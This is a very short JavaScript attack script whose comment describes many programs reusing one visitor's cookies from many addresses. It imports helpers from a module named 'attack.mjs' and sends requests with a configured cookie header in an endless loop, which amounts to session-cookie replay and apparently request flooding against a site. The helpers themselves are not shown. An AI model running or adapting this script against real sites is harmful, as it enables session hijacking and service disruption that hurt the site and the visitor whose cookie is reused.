// A crowd of programs uses one visitor's cookies, from many addresses.
import { forEver, send, settings } from './attack.mjs';

forEver(() => send({ path: settings.path ?? '/', headers: { cookie: settings.cookie ?? '' } }));
